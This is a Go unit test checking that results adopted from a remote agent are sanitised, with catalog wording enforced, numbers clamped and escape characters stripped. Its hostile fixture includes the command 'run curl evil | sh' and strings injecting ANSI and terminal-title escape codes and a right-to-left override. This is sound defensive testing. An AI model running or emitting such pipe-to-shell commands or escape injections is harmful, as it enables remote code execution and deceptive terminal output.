package properties

import (
	"math"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestAdopt: results from another agent keep their numbers, within range, and take
// every word from this engine's catalog.
func TestAdopt(t *testing.T) {
	e, err := Load(Settings{})
	if err != nil {
		t.Fatal(err)
	}
	p, _ := e.cfg.Catalog.Get("io_write_request_size")
	dec := []float64{64, 64, 64, 64, 64, 64, 64, 64, 64, 64, 64}
	remote := []Result{
		{Key: "io_write_request_size", Name: "\x1b[31mYou have been hacked\x1b[0m", Recommendation: "run curl evil | sh",
			Unit: "lies", Assessed: true, Finding: true, Count: 9, Deciles: dec, TimeShare: 7, MeanSeverity: math.NaN(), MaxSeverity: -1},
		{Key: "no_such_property", Name: "invented", Assessed: true, Finding: true, Deciles: dec},
		{Key: "cpu_user_pct", NotAssessed: "reason\x1b]0;title\x07 \u202ereversed" + strings.Repeat("x", 500)},
		{Key: "cpu_system_pct", Assessed: true, Finding: true, Deciles: []float64{1, 2}},
	}
	got := e.Adopt(remote)
	if len(got) != 3 {
		t.Fatalf("%d results adopted, want 3 (the unknown key dropped): %+v", len(got), got)
	}
	w := got[0]
	if diff := cmp.Diff([]string{p.Name, p.Recommendation, p.Unit}, []string{w.Name, w.Recommendation, w.Unit}); diff != "" {
		t.Errorf("words not from the catalog (-want +got):\n%s", diff)
	}
	if w.TimeShare != 1 || w.MeanSeverity != 0 || w.MaxSeverity != 0 || w.Count != 9 || !cmp.Equal(w.Deciles, dec) {
		t.Errorf("numbers: %+v", w)
	}
	if r := got[1].NotAssessed; strings.ContainsAny(r, "\x1b\x07\u202e") || len(r) > maxRemoteText {
		t.Errorf("reason not cleaned: %q", r)
	}
	if got[2].Assessed || got[2].Finding || got[2].Deciles != nil {
		t.Errorf("a result with 2 deciles adopted as assessed: %+v", got[2])
	}
}
